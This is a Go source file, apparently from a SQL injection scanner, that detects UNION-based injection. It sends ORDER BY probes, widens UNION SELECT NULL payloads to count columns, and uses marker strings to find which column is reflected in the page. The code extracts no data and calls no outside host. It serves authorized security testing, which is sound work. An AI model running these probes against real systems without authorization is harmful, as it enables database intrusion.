// Package union detects UNION-based injection. The detector works by:
//
//  1. Ordering gate: ORDER BY 1 must be accepted and ORDER BY 9999 rejected,
//     which shows the value lands inside a query the attacker can extend.
//     The rejected response is kept as the reference for a broken query.
//  2. Column count: UNION SELECT NULL,... is widened one column at a time
//     until the page stops looking like the reference.
//  3. Reflection: one probe at that width carries a distinct marker in
//     each column; a marker in the page shows which column is displayed.
package union

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"strings"

	"github.com/Varunmathiazhagan/final-project-review/internal/detector"
	"github.com/Varunmathiazhagan/final-project-review/internal/engine"
	"github.com/Varunmathiazhagan/final-project-review/internal/payload"
	"github.com/Varunmathiazhagan/final-project-review/internal/technique"
	"github.com/Varunmathiazhagan/final-project-review/internal/transport"
)

const (
	// impossibleColumn is an ORDER BY position no real query has.
	impossibleColumn = 9999

	// markerPrefix starts every reflection marker. It must be short enough
	// to fit in any VARCHAR column.
	markerPrefix = "sqlsc"
)

// Union implements the UNION-based detector.
type Union struct {
	diffEngine *detector.DiffEngine
	boundaries []payload.Boundary
}

var _ engine.Detector = (*Union)(nil)

// New creates a Union detector with the default boundaries.
func New() *Union {
	return &Union{
		diffEngine: detector.NewDiffEngine(),
		boundaries: payload.DetectionBoundaries(),
	}
}

// Technique returns engine.TechniqueUnion.
func (u *Union) Technique() engine.Technique {
	return engine.TechniqueUnion
}

// Marker returns the reflection marker for a 1-based column.
func Marker(column int) string {
	return fmt.Sprintf("%s%dx%d", markerPrefix, column, column*7%10)
}

// Test tries each boundary in turn and reports the first one where a UNION
// of some width up to UnionMaxColumns is accepted.
func (u *Union) Test(ctx context.Context, req *engine.ProbeRequest) ([]engine.Finding, error) {
	if err := technique.Check(req); err != nil {
		return nil, err
	}
	maxColumns := max(technique.Config(req).UnionMaxColumns, 1)

	for _, bd := range u.boundaries {
		if err := ctx.Err(); err != nil {
			return nil, err
		}

		ordering := fmt.Sprintf("ORDER BY %d rejected", impossibleColumn)
		reference, ok := u.orderingGate(ctx, req, bd)
		if !ok {
			// No ORDER BY signal: a UNION wider than any tested width
			// serves as the broken-query reference instead.
			reference, ok = u.tooWide(ctx, req, bd, maxColumns+1)
			if !ok {
				continue
			}
			ordering = fmt.Sprintf("UNION SELECT with %d column(s) rejected", maxColumns+1)
		}

		width, ok, err := u.columnCount(ctx, req, bd, reference, maxColumns)
		if err != nil {
			return nil, err
		}
		if !ok {
			continue
		}

		p := u.build(bd, "UNION SELECT "+nulls(width))
		column := u.reflectedColumn(ctx, req, bd, width)
		evidence := fmt.Sprintf("UNION SELECT with %d column(s) accepted, %s", width, ordering)
		if column > 0 {
			p = u.build(bd, "UNION SELECT "+markers(width))
			evidence = fmt.Sprintf("UNION SELECT with %d column(s) accepted; marker %s reflected from column %d",
				width, Marker(column), column)
		}
		return []engine.Finding{
			engine.NewFinding(*req.Point, engine.TechniqueUnion, engine.Signal{Reflected: column > 0}, p.String(), evidence),
		}, nil
	}
	return nil, nil
}

// orderingGate sends ORDER BY 1 and ORDER BY 9999. It returns the rejected
// response when the first is accepted and the second is not.
func (u *Union) orderingGate(ctx context.Context, req *engine.ProbeRequest, bd payload.Boundary) (*transport.Response, bool) {
	first, err := technique.Send(ctx, req, u.build(bd, "ORDER BY 1"))
	if err != nil || broken(req.Point.Baseline, first) {
		return nil, false
	}
	last, err := technique.Send(ctx, req, u.build(bd, fmt.Sprintf("ORDER BY %d", impossibleColumn)))
	if err != nil {
		return nil, false
	}
	if broken(req.Point.Baseline, last) || !u.diffEngine.Similar(first, last) {
		return last, true
	}
	return nil, false
}

// tooWide sends a UNION of width columns and returns its response when the
// query is visibly broken.
func (u *Union) tooWide(ctx context.Context, req *engine.ProbeRequest, bd payload.Boundary, width int) (*transport.Response, bool) {
	resp, err := technique.Send(ctx, req, u.build(bd, "UNION SELECT "+nulls(width)))
	if err != nil || !broken(req.Point.Baseline, resp) {
		return nil, false
	}
	return resp, true
}

// columnCount widens the UNION until a width is accepted. It reports false
// when no width up to maxColumns is.
func (u *Union) columnCount(ctx context.Context, req *engine.ProbeRequest, bd payload.Boundary, reference *transport.Response, maxColumns int) (int, bool, error) {
	for n := 1; n <= maxColumns; n++ {
		if err := ctx.Err(); err != nil {
			return 0, false, err
		}
		resp, err := technique.Send(ctx, req, u.build(bd, "UNION SELECT "+nulls(n)))
		if err != nil {
			continue
		}
		if u.accepted(req.Point.Baseline, reference, resp) {
			return n, true, nil
		}
	}
	return 0, false, nil
}

// reflectedColumn sends one probe with a marker per column and returns the
// 1-based column whose marker appears in the page, or 0.
func (u *Union) reflectedColumn(ctx context.Context, req *engine.ProbeRequest, bd payload.Boundary, width int) int {
	resp, err := technique.Send(ctx, req, u.build(bd, "UNION SELECT "+markers(width)))
	if err != nil {
		return 0
	}
	for i := 1; i <= width; i++ {
		m := []byte(Marker(i))
		if bytes.Contains(resp.Body, m) && !bytes.Contains(req.Point.Baseline.Body, m) {
			return i
		}
	}
	return 0
}

// accepted reports whether resp shows a working query: no new database
// error, no server error, and a page unlike the broken-query reference.
func (u *Union) accepted(base, reference, resp *transport.Response) bool {
	return !broken(base, resp) && !u.diffEngine.Similar(reference, resp)
}

// broken reports whether resp shows a failing query.
func broken(base, resp *transport.Response) bool {
	return resp.StatusCode >= http.StatusInternalServerError ||
		len(detector.NewSQLErrors(base.Body, resp.Body)) > 0
}

func (u *Union) build(bd payload.Boundary, core string) *payload.Payload {
	return payload.NewBuilder().
		WithBoundary(bd).
		WithCore(core).
		WithTechnique(string(engine.TechniqueUnion)).
		Build()
}

func nulls(n int) string {
	return strings.TrimSuffix(strings.Repeat("NULL,", n), ",")
}

func markers(n int) string {
	cols := make([]string, n)
	for i := range cols {
		cols[i] = "'" + Marker(i+1) + "'"
	}
	return strings.Join(cols, ",")
}
